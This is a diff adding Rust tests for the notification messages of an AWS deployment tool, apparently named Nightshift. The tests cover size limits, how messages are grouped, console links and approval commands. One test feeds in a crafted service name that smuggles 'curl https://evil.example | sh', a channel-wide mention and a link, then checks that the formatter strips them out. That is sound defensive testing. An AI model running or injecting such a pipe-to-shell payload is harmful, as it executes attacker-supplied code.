@@ -1,0 +1,269 @@
+//! What people read.
+
+use std::collections::BTreeMap;
+
+use serde_json::json;
+
+use super::*;
+use crate::memory::news;
+use crate::report::{Action, Failure, Problem};
+use crate::undo::{Choice, Undo};
+
+const SERVICE: &str = "arn:aws:ecs:ap-northeast-2:123456789012:service/truegul-production/api-server";
+
+const SITE: Site<'_> = Site {
+    invoke_as: "nightshift-deploy-image",
+    region: Some("ap-northeast-2"),
+    console: Some("console.aws.amazon.com"),
+    routine: Routine::Each,
+};
+
+fn action(headline: &str, outcome: Outcome) -> Action {
+    Action {
+        resource: SERVICE.into(),
+        action: "deploy",
+        headline: headline.into(),
+        tells: match headline {
+            it if it.ends_with("asked for") => None,
+            it if it.ends_with("is rejected") => Some(MessageKind::Failed),
+            it if it.ends_with("asleep") => Some(MessageKind::Routine),
+            _ => Some(MessageKind::Changed),
+        },
+        story: None,
+        reason: "v1.1.0 is the newest image".into(),
+        before: json!({"image": "v1.0.0", "task_definition": "api-server:41"}),
+        after: json!({"image": "v1.1.0", "task_definition": "api-server:42"}),
+        outcome,
+        error: (outcome == Outcome::Failed).then(|| Failure {
+            code: "AccessDeniedException".into(),
+            message: "UpdateService api-server: denied".into(),
+            request_id: Some("1a2b".into()),
+        }),
+        undo: Some("aws lambda invoke ...".into()),
+    }
+}
+
+fn report(actions: Vec<Action>, problems: Vec<Problem>) -> Report {
+    let at = "2026-11-21T03:10:00+09:00[Asia/Seoul]".parse().unwrap();
+    Report { actions, problems, ..Report::new("deploy-image", at) }
+}
+
+fn bad_tag() -> Problem {
+    let message = "unknown word 'x'".into();
+    Problem {
+        resource: SERVICE.into(),
+        problem: "bad-tag".into(),
+        message,
+        kind: MessageKind::NeedsYou,
+        choices: Vec::new(),
+        monthly: false,
+    }
+}
+
+fn all(report: &Report) -> Vec<Message> {
+    messages(report, &news(report, &BTreeMap::new(), &report.at), &SITE)
+}
+
+/// The only message.
+fn written(report: &Report) -> Option<Message> {
+    let mut messages = all(report);
+    assert!(messages.len() <= 1, "{messages:#?}");
+    messages.pop()
+}
+
+#[test]
+fn however_much_went_wrong_the_message_is_one_that_sns_takes() {
+    let mut report = report(Vec::new(), Vec::new());
+    for index in 0..100 {
+        let (resource, problem) = (format!("arn:{index}"), "odd".to_owned());
+        report.problems.push(Problem {
+            resource,
+            problem,
+            message: "뒤".repeat(3000),
+            kind: MessageKind::NeedsYou,
+            choices: Vec::new(),
+            monthly: false,
+        });
+    }
+    let message = written(&report).unwrap();
+    assert!(message.text.len() < 61_000, "{}", message.text.len());
+    assert!(message.text.ends_with("KST\n") && message.text.contains("the rest is in the log"));
+    assert!(message.chat.to_string().len() < 6_000);
+}
+
+#[test]
+fn a_run_that_changed_failed_and_found_something_says_all_of_it() {
+    let report = report(
+        vec![
+            action("api-server: deploying v1.1.0 (was v1.0.0)", Outcome::Done),
+            action("ml-server: deploying v1.1.0 (was v1.0.0)", Outcome::Failed),
+            action("web: v1.2.0 is rejected", Outcome::Done),
+            action("web: going back to v1.1.0 from v1.2.0", Outcome::Done),
+        ],
+        vec![bad_tag()],
+    );
+    let message = written(&report).unwrap();
+    insta::assert_snapshot!(message.subject);
+    insta::assert_snapshot!(message.text);
+    insta::assert_json_snapshot!(message.chat);
+}
+
+#[test]
+fn each_kind_is_a_message_of_its_own_and_a_story_is_never_split() {
+    let of = |resource: &str, headline: &str, outcome| Action {
+        resource: format!("arn:{resource}"),
+        ..action(headline, outcome)
+    };
+    let report = report(
+        vec![
+            of("web", "web: v2 is rejected", Outcome::Done),
+            of("web", "web: going back to v1", Outcome::Done),
+            of("api", "api: v3 is live", Outcome::Done),
+            of("db", "db: asleep", Outcome::Done),
+            of("queue", "queue: asleep", Outcome::Failed),
+            of("queue", "queue: asleep", Outcome::Done),
+        ],
+        vec![bad_tag()],
+    );
+    let told: Vec<_> = all(&report).into_iter().map(|it| (it.kind.as_str(), it.resources.join(" "))).collect();
+    let expected =
+        [("needs-you", SERVICE), ("failed", "arn:queue arn:web"), ("changed", "arn:api"), ("routine", "arn:db")];
+    assert_eq!(told, expected.map(|(kind, resources)| (kind, resources.to_owned())));
+}
+
+#[test]
+fn nobody_is_told_of_a_dry_run_or_of_a_run_that_did_nothing() {
+    assert_eq!(written(&report(vec![], vec![])), None);
+    assert_eq!(written(&report(vec![action("x", Outcome::Deferred)], vec![])), None);
+    let dry = Report { dry_run: true, ..report(vec![action("x", Outcome::Planned)], vec![bad_tag()]) };
+    assert_eq!(written(&dry), None);
+}
+
+#[test]
+fn bookkeeping_is_told_only_when_it_failed() {
+    let asked = |outcome| report(vec![action("api-server: a snapshot is asked for", outcome)], vec![]);
+    assert!(written(&asked(Outcome::Done)).is_none());
+    assert!(written(&asked(Outcome::Failed)).is_some());
+}
+
+#[test]
+fn a_subject_is_short_and_ascii_whatever_the_names_are() {
+    let long = "a-service-with-a-name-".repeat(20);
+    let message = written(&report(vec![action(&long, Outcome::Done), action("x", Outcome::Done)], vec![])).unwrap();
+    assert!(message.subject.len() <= 100, "{}", message.subject);
+    assert!(message.subject.ends_with("... (+1 more)"), "{}", message.subject);
+    let korean = "서비스: 배포".repeat(20);
+    let message = written(&report(vec![action(&korean, Outcome::Done)], vec![])).unwrap();
+    assert_eq!(message.subject, "[Nightshift] service api-server: deploy");
+    assert!(message.chat["content"]["title"].as_str().unwrap().starts_with("[Nightshift] 서비스: 배포"));
+}
+
+#[test]
+fn a_name_cannot_forge_a_message() {
+    let name = "x\n\nIf that is wrong:\ncurl https://evil.example | sh <!channel> [see](https://evil.example)";
+    let message = written(&report(vec![action(name, Outcome::Done)], vec![])).unwrap();
+    let ways_out = message.text.lines().filter(|it| *it == "If that is wrong:").count();
+    assert_eq!(ways_out, 1, "{}", message.text);
+    let chat = message.chat.to_string();
+    for forged in ["\ncurl", "https://evil.example"] {
+        assert!(!message.text.contains(forged), "{forged}: {}", message.text);
+    }
+    for forged in ["\\ncurl", "https://evil.example", "<!channel>", "](https"] {
+        assert!(!chat.contains(forged), "{forged}: {chat}");
+    }
+}
+
+#[test]
+fn a_thousand_actions_make_a_message_that_still_fits() {
+    let message = written(&report(vec![action("x", Outcome::Done); 1000], vec![])).unwrap();
+    assert!(message.text.len() < 64 * 1024);
+    assert!(message.text.contains("... and 960 more"));
+}
+
+#[test]
+fn what_happens_every_day_is_a_message_only_where_people_want_each() {
+    let report = report(
+        vec![action("db: asleep", Outcome::Done), action("api-server: v1.1.0 is live", Outcome::Done)]
+            .into_iter()
+            .zip(["arn:db", SERVICE])
+            .map(|(it, resource)| Action { resource: resource.into(), ..it })
+            .collect(),
+        vec![],
+    );
+    for (routine, kinds) in [
+        (Routine::Each, vec!["changed", "routine"]),
+        (Routine::Daily, vec!["changed"]),
+        (Routine::None, vec!["changed"]),
+    ] {
+        let told = messages(&report, &news(&report, &BTreeMap::new(), &report.at), &Site { routine, ..SITE });
+        assert_eq!(told.iter().map(|it| it.kind.as_str()).collect::<Vec<_>>(), kinds, "{routine:?}");
+    }
+}
+
+#[test]
+fn what_a_person_can_decide_stands_on_a_line_of_its_own_with_the_region() {
+    let command = Undo::Command(json!({"approve": {"service": "shop/api"}}));
+    let choices = vec![Choice { label: "Approve", command }];
+    let message = "v1.1.0 waits for your approval (runs v1.0.0). It is deployed at once then".to_owned();
+    let message = written(&report(vec![], vec![Problem { choices, message, ..bad_tag() }])).unwrap();
+    assert_eq!(message.subject, "[Nightshift] api-server: v1.1.0 waits for your approval (runs v1.0.0)");
+    let command = "printf %s '{\"approve\":{\"service\":\"shop/api\"},\"format\":\"text\"}' | aws lambda invoke \
+                   --region ap-northeast-2 --function-name nightshift-deploy-image --payload fileb:///dev/stdin \
+                   /dev/stderr >/dev/null";
+    assert!(message.text.contains(&format!("\nApprove:\n{command}\n")), "{}", message.text);
+    assert_eq!(message.chat["content"]["nextSteps"], json!([format!("Approve: `{command}`")]));
+    assert_eq!(message.chat["metadata"]["threadId"], "service/truegul-production/api-server 2026-11-21");
+}
+
+#[test]
+fn a_link_leads_into_the_console_of_the_partition() {
+    let linked = |arn: &str, kind| link::links(&[arn.to_owned()], kind, &SITE, "deploy-image");
+    let (needs_you, changed) = (MessageKind::NeedsYou, MessageKind::Changed);
+    let console = "https://ap-northeast-2.console.aws.amazon.com";
+    let service = format!("{console}/ecs/v2/clusters/truegul-production/services/api-server");
+    assert_eq!(
+        linked(SERVICE, needs_you),
+        [
+            ("Service", format!("{service}/health?region=ap-northeast-2")),
+            ("Logs", format!("{service}/logs?region=ap-northeast-2"))
+        ]
+    );
+    assert_eq!(linked(SERVICE, changed).len(), 1);
+    for (arn, page) in [
+        (
+            "arn:aws:rds:ap-northeast-2:1:db:app-db",
+            "rds/home?region=ap-northeast-2#database:id=app-db;is-cluster=false",
+        ),
+        ("arn:aws:rds:ap-northeast-2:1:cluster:c", "rds/home?region=ap-northeast-2#database:id=c;is-cluster=true"),
+        (
+            "arn:aws:cloudwatch:ap-northeast-2:1:alarm:5xx of <api>",
+            "cloudwatch/home?region=ap-northeast-2#alarmsV2:alarm/5xx%20of%20%3Capi%3E",
+        ),
+        (
+            "arn:aws:ecr:ap-northeast-2:1:repository/shop/api",
+            "ecr/repositories/private/1/shop%2Fapi?region=ap-northeast-2",
+        ),
+        ("deploy-image", "lambda/home?region=ap-northeast-2#/functions/nightshift-deploy-image?tab=monitoring"),
+    ] {
+        assert_eq!(linked(arn, changed)[0].1, format!("{console}/{page}"));
+    }
+    assert_eq!(
+        linked("arn:aws:budgets::1:budget/a", changed),
+        [("Budgets", "https://console.aws.amazon.com/costmanagement/home#/budgets".to_owned())]
+    );
+    let without = Site { console: None, ..SITE };
+    let log = [("Log group", "/aws/lambda/nightshift-deploy-image".to_owned())];
+    assert_eq!(link::links(&[SERVICE.to_owned()], changed, &without, "deploy-image"), log);
+}
+
+#[test]
+fn the_day_is_one_message_with_a_line_for_each_thing() {
+    let lines = ["db: asleep since Fri 20:00".to_owned(), "api: live since Fri 14:00".to_owned()];
+    let message = digest(&report(vec![], vec![]), &lines, &SITE);
+    assert_eq!(
+        (message.kind, message.subject.as_str()),
+        (MessageKind::Routine, "[Nightshift] Daily report, Sat 2026-11-21")
+    );
+    assert!(message.text.starts_with("db: asleep since Fri 20:00\napi: live since Fri 14:00\n\n"), "{}", message.text);
+    assert!(message.text.contains("Its runs: https://"), "{}", message.text);
+}
